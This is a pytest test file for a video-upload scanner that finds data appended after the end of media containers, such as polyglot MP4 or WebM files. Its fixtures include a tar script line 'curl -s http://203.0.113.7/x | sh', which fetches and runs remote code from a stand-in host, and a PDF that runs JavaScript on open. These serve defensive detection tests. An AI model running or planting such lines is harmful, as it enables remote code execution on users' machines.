"""Data appended after the end of a media container (reels.media.container).

Real clips made by ffmpeg (MP4 with faststart, fragmented MP4, MOV, WebM, MKV, AVI) are
clean; each breaker payload (issue 13: gzip, bzip2, xz, tar with a script, a PDF, the
Debian clamav-testfiles samples ClamAV missed when appended, text) appended to them is
found at the container's end with a guess of what it is; zero padding and truncation
are not appended data.
"""

from __future__ import annotations

import asyncio
import bz2
import gzip
import io
import lzma
import subprocess
import tarfile
from pathlib import Path

import pytest

from reels.media.container import Appended, appended_data, guess_kind
from tests.media import make_clip

TESTFILES = Path("/usr/share/clamav-testfiles")
SAMPLES = {
    "clam-mew.exe": "pe",
    "clam-upack.exe": "pe",
    "clam.exe.bz2": "bzip2",
    "clam.tar.gz": "gzip",
    "clam_cache_emax.tgz": "gzip",
    "clam.chm": "chm",
    "clam.exe.binhex": "binhex",
    "clam.exe.html": "html",
    "clam.exe.rtf": "rtf",
    "clam.ppt": "ole2",
    "clam.sis": "sis",
}


def _ffmpeg(out: Path, *args: str) -> Path:
    subprocess.run(
        ["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i",
         "testsrc2=size=160x120:rate=15:duration=1",
         "-f", "lavfi", "-i", "sine=frequency=440:sample_rate=48000:duration=1",
         *args, str(out)],
        check=True,
    )  # fmt: skip
    return out


@pytest.fixture(scope="module")
def clips(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    root = tmp_path_factory.mktemp("containers")
    h264 = ["-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"]
    mp4 = root / "faststart.mp4"
    asyncio.run(make_clip(mp4, width=160, height=120, seconds=1))
    return {
        "mp4": mp4,
        "fragmented.mp4": _ffmpeg(
            root / "fragmented.mp4",
            *h264,
            "-c:a",
            "aac",
            "-movflags",
            "frag_keyframe+empty_moov",
        ),  # fmt: skip
        "mov": _ffmpeg(root / "clip.mov", *h264, "-c:a", "aac"),
        "webm": _ffmpeg(root / "clip.webm", "-c:v", "libvpx", "-b:v", "100k", "-c:a", "libopus"),
        "mkv": _ffmpeg(root / "clip.mkv", *h264, "-c:a", "aac"),
        "avi": _ffmpeg(root / "clip.avi", "-c:v", "mpeg4", "-c:a", "mp3"),
    }


def _tar_with_script() -> bytes:
    buf = io.BytesIO()
    script = b"#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("run.sh")
        info.size, info.mode = len(script), 0o755
        tar.addfile(info, io.BytesIO(script))
    return buf.getvalue()


PDF = (
    b"%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
PAYLOADS = {
    "gzip": (gzip.compress(b"#!/bin/sh\necho pwned\n" * 20), "gzip"),
    "bzip2": (bz2.compress(b"#!/bin/sh\necho pwned\n" * 20), "bzip2"),
    "xz": (lzma.compress(b"#!/bin/sh\necho pwned\n" * 20), "xz"),
    "tar": (_tar_with_script(), "tar"),
    "pdf": (PDF, "pdf"),
    "text": (b"hello, this is a note hidden after the video\n" * 3, "text"),
}


def _glue(clip: Path, payload: bytes, out: Path) -> Path:
    out.write_bytes(clip.read_bytes() + payload)
    return out


@pytest.mark.parametrize("name", ["mp4", "fragmented.mp4", "mov", "webm", "mkv", "avi"])
def test_clean_clips_have_no_appended_data(clips: dict[str, Path], name: str) -> None:
    assert appended_data(clips[name]) is None


@pytest.mark.parametrize("name", ["mp4", "fragmented.mp4", "mov", "webm", "mkv", "avi"])
@pytest.mark.parametrize("payload", sorted(PAYLOADS))
def test_each_breaker_payload_appended_is_found_at_the_containers_end(
    clips: dict[str, Path], name: str, payload: str, tmp_path: Path
) -> None:
    data, kind = PAYLOADS[payload]
    clip = clips[name]
    found = appended_data(_glue(clip, data, tmp_path / f"polyglot-{name}"))
    size = clip.stat().st_size
    assert found is not None
    assert (found.offset, found.length, found.kind) == (size, len(data), kind)


@pytest.mark.skipif(not TESTFILES.is_dir(), reason="Debian clamav-testfiles not installed")
@pytest.mark.parametrize("sample", sorted(SAMPLES))
def test_each_clamav_sample_appended_to_an_mp4_is_found(
    clips: dict[str, Path], sample: str, tmp_path: Path
) -> None:
    data = (TESTFILES / sample).read_bytes()
    size = clips["mp4"].stat().st_size
    for name in ("mp4", "webm", "avi"):
        found = appended_data(_glue(clips[name], data, tmp_path / f"{name}+{sample}"))
        assert found is not None, (name, sample)
        assert found.offset == clips[name].stat().st_size and found.length == len(data)
        assert found.kind == SAMPLES[sample], (name, sample, found)
    found = appended_data(_glue(clips["mp4"], data, tmp_path / sample))
    assert found is not None and found.offset == size


def test_the_message_and_signature_say_what_and_where(
    clips: dict[str, Path], tmp_path: Path
) -> None:
    data = PAYLOADS["gzip"][0]
    size = clips["mp4"].stat().st_size
    found = appended_data(_glue(clips["mp4"], data, tmp_path / "x.mp4"))
    assert found == Appended(offset=size, length=len(data), container="MP4", kind="gzip")
    assert found.signature == "Reels.Polyglot.AppendedData.Gzip"
    assert found.message == (
        f"{len(data)} bytes appended after the end of the MP4 container at offset {size}"
        " (looks like a gzip archive)"
    )
    webm = appended_data(_glue(clips["webm"], data, tmp_path / "x.webm"))
    assert webm is not None and webm.container == "WebM"
    mov = appended_data(_glue(clips["mov"], data, tmp_path / "x.mov"))
    assert mov is not None and mov.container == "MOV"


@pytest.mark.parametrize("name", ["mp4", "fragmented.mp4", "mov", "webm", "mkv", "avi"])
def test_zero_padding_is_allowed_but_not_a_payload_behind_it(
    clips: dict[str, Path], name: str, tmp_path: Path
) -> None:
    clip = clips[name]
    assert appended_data(_glue(clip, b"\x00" * 4096, tmp_path / "padded")) is None
    data = PAYLOADS["xz"][0]
    found = appended_data(_glue(clip, b"\x00" * 4096 + data, tmp_path / "padded+xz"))
    assert found is not None
    assert (found.offset, found.length, found.kind) == (
        clip.stat().st_size, 4096 + len(data), "xz",
    )  # fmt: skip


@pytest.mark.parametrize("name", ["mp4", "fragmented.mp4", "mov", "webm", "mkv", "avi"])
@pytest.mark.parametrize("keep", [0.5, 0.97])
def test_a_truncated_file_is_not_appended_data(
    clips: dict[str, Path], name: str, keep: float, tmp_path: Path
) -> None:
    data = clips[name].read_bytes()
    cut = tmp_path / f"cut-{name}"
    cut.write_bytes(data[: int(len(data) * keep)])
    assert appended_data(cut) is None


def test_other_formats_are_not_judged(tmp_path: Path) -> None:
    ts = tmp_path / "clip.ts"
    ts.write_bytes(b"\x47" + b"\x00" * 187 + b"\x1f\x8b\x08\x00" * 10)
    assert appended_data(ts) is None


def test_a_box_chain_that_breaks_off_starts_the_appended_data(tmp_path: Path) -> None:
    """An ftyp box, then a box whose size is smaller than its own header."""
    ftyp = b"\x00\x00\x00\x10ftypisom\x00\x00\x02\x00"
    path = tmp_path / "broken.mp4"
    path.write_bytes(ftyp + b"\x00\x00\x00\x04free" + b"payload")
    found = appended_data(path)
    assert found is not None and found.offset == len(ftyp)


def test_guess_kind_knows_the_common_magics() -> None:
    assert guess_kind(b"PK\x03\x04rest") == "zip"
    assert guess_kind(b"Rar!\x1a\x07\x01\x00") == "rar"
    assert guess_kind(b"7z\xbc\xaf\x27\x1c\x00\x04") == "7z"
    assert guess_kind(b"\x7fELF\x02\x01") == "elf"
    assert guess_kind(b"MZ\x90\x00") == "pe"
    assert guess_kind(b"#!/bin/sh\n") == "script"
    assert guess_kind(bytes(range(128, 256))) == "unknown"
